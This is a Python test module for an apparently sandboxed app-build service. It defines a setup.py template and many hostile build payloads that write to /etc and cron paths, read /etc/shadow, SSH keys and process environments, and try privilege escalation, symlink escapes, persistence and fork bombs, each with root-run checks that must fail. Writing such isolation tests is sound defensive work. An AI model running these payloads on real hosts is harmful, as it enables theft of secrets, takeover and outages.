"""Sources whose own build attacks the host: the text of a ``setup.py``, and what must not have happened, one a row.

The attack runs at the top of ``setup.py``, as it is in any source distribution that an app requires. What it sees or
reaches it writes to ``loot.txt`` in the package that it installs, so that a build that goes through shows it. The
commands afterwards run as root on the host; each that succeeds is a fault. In all of them `{victim}` is another app of
the host, `{me}` the attacking one.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

SETUP = """\
import glob, os, shutil, socket, subprocess, sys, time
LOOT = []
def attempt(what, *arguments):
    try:
        found = what(*arguments)
        LOOT.append(f"GOT {arguments} {found}")
    except BaseException as error:
        LOOT.append(f"no {arguments} {error}")
def read(path):
    with open(path, errors="replace") as stream:
        return stream.read(4000)
def write(path, text="evil"):
    with open(path, "w") as stream:
        stream.write(text)
def run(*command):
    subprocess.run(command, check=True, capture_output=True, stdin=subprocess.DEVNULL, timeout=20)
def link(target, name):
    if not os.path.lexists(name):
        os.symlink(target, name)
{attack}
os.makedirs("wsgi_probe", exist_ok=True)
with open("wsgi_probe/__init__.py", "w") as stream:
    stream.write("def app(environ, start):\\n    start('200 OK', [])\\n    return [b'x']\\n")
with open("wsgi_probe/loot.txt", "w") as stream:
    stream.write("\\n".join(LOOT))
import setuptools
setuptools.setup(name="wsgi-probe", version="1", packages=["wsgi_probe"], package_data={"wsgi_probe": ["*.txt"]})
"""
LOOT = "/srv/{me}/builds/*/venv/lib/python3*/site-packages/wsgi_probe/loot.txt"


@dataclass(frozen=True)
class Attack:
    """What a build tries.

    Attributes:
        code: Lines of Python.
        faults: Shell commands of which none may succeed once the run is over.
        builds: Whether the build goes through all the same.
    """

    code: str
    faults: tuple[str, ...] = ()
    builds: bool = True


def _got(text: str = "GOT") -> str:
    """That the attack says it reached something."""
    return f"grep -q '{text}' {LOOT}"


ATTACKS: dict[str, Attack] = {
    "writes to the system": Attack(
        """
for path in ("/etc/evil", "/etc/cron.d/evil", "/etc/systemd/system/evil.service", "/usr/local/bin/evil", "/root/evil",
             "/srv/evil", "/opt/wsgi/evil", "/var/lib/evil", "/var/cache/evil", "/etc/ld.so.preload", "/boot/evil"):
    attempt(write, path)
""",
        ("ls -d /etc/evil /etc/cron.d/evil /usr/local/bin/evil /root/evil /srv/evil /opt/wsgi/evil /boot/evil", _got()),
    ),
    "is root": Attack("attempt(lambda: 1 / (os.getuid() == 0 or os.geteuid() == 0))", (_got(),)),
    "becomes root": Attack(
        """
attempt(os.setuid, 0)
for program in ("su", "sudo", "passwd", "mount"):
    attempt(run, program, "-n", "id")
""",
        (_got(),),
    ),
    "has capabilities": Attack(
        """
wanted = [line for line in read("/proc/self/status").splitlines() if line.startswith(("CapEff", "CapBnd", "CapPrm"))]
attempt(lambda: 1 / any(int(line.split()[1], 16) for line in wanted))
""",
        (_got(),),
    ),
    "makes namespaces": Attack(
        """
for kind in ("--user", "--mount", "--pid", "--net"):
    attempt(run, "unshare", kind, "true")
""",
        (_got(),),
    ),
    "reads another app": Attack(
        """
for path in ("/srv/{victim}/current/app/src", "/srv/{victim}", "/var/lib/{victim}", "/run/{victim}/current.sock"):
    attempt(os.listdir, path)
for path in glob.glob("/srv/*") + glob.glob("/var/lib/*") + glob.glob("/etc/wsgi/*"):
    if not path.endswith("/{me}"):
        LOOT.append(f"GOT {path}")
""",
        (_got(),),
    ),
    "writes to another app": Attack(
        """
for folder in ("/srv/{victim}/current/app/src", "/srv/{victim}", "/var/lib/{victim}", "/run/{victim}"):
    attempt(write, folder + "/evil")
attempt(os.symlink, "/tmp", "/srv/{victim}/current")
""",
        ("ls /srv/{victim}/evil /srv/{victim}/current/app/src/evil /var/lib/{victim}/evil", _got()),
    ),
    "reads secrets of the host": Attack(
        """
for path in ("/etc/shadow", "/etc/ssl/private", "/etc/letsencrypt", "/etc/nginx", "/etc/wsgi", "/etc/sudoers",
             "/root/.ssh", "/etc/ssh/ssh_host_ed25519_key", "/var/log", "/var/lib/{victim}",
             "/proc/1/environ", "/proc/1/root", "/proc/kcore", "/dev/mem", "/dev/kmsg"):
    attempt(lambda p: (1 / len(os.listdir(p))) if os.path.isdir(p) else read(p), path)
""",
        (_got(),),
    ),
    "links to what it may not read": Attack(
        """
for path in ("/etc/shadow", "/etc/passwd", "/srv/{victim}/current", "/usr/bin/python3"):
    attempt(os.link, path, os.path.basename(path) + ".hard")
""",
        (_got(),),
    ),
    "finds a password": Attack(
        """
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        text = read(path)
    except OSError:
        continue
    if "s3cret" in text or "s3cr%" in text:
        LOOT.append(f"GOT {path}")
text = repr(dict(os.environ))
for folder, _folders, files in os.walk(os.environ["HOME"] + "/.."):
    for name in files:
        try:
            text += read(os.path.join(folder, name)) if not name.endswith(".py") else ""
        except OSError:
            continue
if "s3" + "cret" in text:
    LOOT.append("GOT environment or files")
""",
        (_got(),),
    ),
    "sees other processes": Attack(
        """
for path in glob.glob("/proc/[0-9]*"):
    if os.stat(path).st_uid != os.getuid():
        LOOT.append(f"GOT {path}")
attempt(os.kill, 1, 9)
""",
        (_got(),),
    ),
    "leaves a daemon behind": Attack(
        """
for at in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(3):
                try:
                    os.close(number)
                except OSError:
                    pass
            os.execvp("sleep", ["hostile-daemon", "86420"])
        os._exit(0)
subprocess.run(["systemd-run", "--user", "sleep", "86420"], capture_output=True)
""",
        ("grep -lz '[h]ostile-daemon' /proc/[0-9]*/cmdline", "systemctl is-active wsgi-build-{me}.service"),
    ),
    "starts a unit": Attack(
        """
attempt(run, "systemd-run", "--no-ask-password", "touch", "/etc/evil-unit")
attempt(run, "busctl", "list")
attempt(run, "loginctl", "enable-linger")
""",
        ("ls /etc/evil-unit", _got()),
    ),
    "writes to the journal": Attack(
        """
sender = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
attempt(sender.sendto, b"MESSAGE=evil-message\\n", "/run/systemd/journal/socket")
attempt(sender.sendto, b"<1>evil-message", "/dev/log")
""",
        ("journalctl --since -1h -g evil-message --quiet | grep .", _got()),
    ),
    "makes set-id files": Attack(
        """
shutil.copy("/bin/sh", "shell")
attempt(os.chmod, "shell", 0o4755)
attempt(os.chmod, "shell", 0o2755)
import sysconfig
""",
        ("find /srv/{me} /var/cache/private/wsgi-build -perm /6000 | grep .", _got()),
    ),
    "makes a device": Attack(
        "attempt(os.mknod, 'device', 0o20666, os.makedev(1, 1))", ("find /srv/{me} -type c -o -type b | grep .", _got())
    ),
    "links out of the source": Attack(
        """
for at, target in enumerate(("/etc/shadow", "/etc", "/srv/{victim}", "../../../../../etc/shadow")):
    link(target, f"static-{at}")
""",
        ("test ! -r /etc/shadow", "test -n \"$(find /etc /srv/{victim} -newer /srv/{me}/builds -name '*.gz')\""),
    ),
    "puts a link where root writes": Attack(
        """
build = os.path.dirname(os.getcwd())
for name in ("build.json", "seed"):
    link("/etc/evil-" + name, os.path.join(build, name))
""",
        ("ls /etc/evil-build.json /etc/evil-seed",),
        builds=False,
    ),
    "puts links for the environment": Attack(
        """
build = os.path.dirname(os.getcwd())
for name in ("lib/evil", "bin/evil", "var"):
    link("/etc", os.path.join(build, "venv", name))
""",
        ("find /etc -newer /srv/{me}/builds -user {me} | grep .",),
    ),
    "runs when Python starts": Attack(
        """
site = glob.glob(os.path.join(os.path.dirname(os.getcwd()), "venv", "lib", "python3*", "site-packages"))
for folder in site:
    write(folder + "/evil.pth", "import os; os.getuid() or open('/etc/evil-pth', 'w')\\n")
""",
        ("ls /etc/evil-pth",),
    ),
    "leaves a pipe": Attack(
        """
os.path.exists("pipe") or os.mkfifo("pipe")
""",
        ("find /srv/{me} -type p | grep .",),
        builds=False,
    ),
    "digs deep": Attack(
        """
os.makedirs("deep", exist_ok=True)
at = os.getcwd()
os.chdir("deep")
for _ in range(300):
    os.path.exists("d") or os.mkdir("d")
    os.chdir("d")
os.chdir(at)
""",
        ("find /srv/{me} -maxdepth 400 -mindepth 200 | grep .",),
        builds=False,
    ),
    "makes a file larger than the disk": Attack(
        """
with open("large", "w") as stream:
    os.truncate(stream.fileno(), 10**14)
""",
        ("find /srv/{me} -size +100G | grep .",),
        builds=False,
    ),
    "closes what it wrote": Attack(
        """
if not os.path.exists("closed"):
    os.makedirs("closed/inner")
    os.chmod("closed", 0)
""",
    ),
    "asks for another environment": Attack(
        """
for number in range(3, 30):
    attempt(os.write, number, b'{"recipe": "0000000000000000"}\\n')
print('{"recipe": "0000000000000000"}')
for path in glob.glob("/proc/[0-9]*/fd/1"):
    try:
        write(path, '{"recipe": "0000000000000000"}\\n')
    except OSError:
        continue
""",
        ('grep -q \'"recipe": "0000000000000000"\' /srv/{me}/builds/*/build.json',),
    ),
    "changes finished builds": Attack(
        """
for path in glob.glob("/srv/{me}/builds/*/venv/lib/python3*/site-packages/**", recursive=True):
    LOOT.append(path)
for folder, _folders, files in os.walk(os.environ["HOME"] + "/../cache"):
    for name in files:
        try:
            with open(os.path.join(folder, name), "a") as stream:
                stream.write("# evil-in-the-cache" if name.endswith(".py") else "")
        except OSError:
            continue
""",
        ("grep -rlq evil-in-the-cache /srv/{victim} /opt/wsgi", "find /srv/{me}/builds ! -uid 0 | grep ."),
    ),
    "fills memory, processes and descriptors": Attack(
        """
children = []
for _ in range(1500):
    try:
        child = os.fork()
    except OSError:
        break
    if child == 0:
        time.sleep(60)
        os._exit(0)
    children.append(child)
LOOT.append("GOT 1500" if len(children) == 1500 else "no")
for child in children:
    os.kill(child, 9)
""",
        (_got(),),
    ),
    "exits well without building": Attack("sys.exit(0)", (), builds=False),
    "kills everything it can": Attack("attempt(os.kill, -1, 9)", (), builds=False),
}


def write_project(folder: Path, attack: Attack, me: str, victim: str) -> Path:
    """Write the source of an app whose build attacks."""
    folder.mkdir(parents=True, exist_ok=True)
    text = SETUP.replace("{attack}", attack.code).replace("{me}", me).replace("{victim}", victim)
    (folder / "setup.py").write_text(text, encoding="utf-8")
    (folder / "requirements.txt").write_text("./\n", encoding="utf-8")
    return folder


def faults(attack: Attack, me: str, victim: str) -> list[str]:
    """The commands of which none may succeed."""
    return [text.replace("{me}", me).replace("{victim}", victim) for text in attack.faults]


def together(*names: str) -> Attack:
    """One build that tries several of the attacks."""
    chosen = [ATTACKS[name] for name in names]
    code = "\n".join(attack.code for attack in chosen)
    return Attack(code, tuple(dict.fromkeys(fault for attack in chosen for fault in attack.faults)))
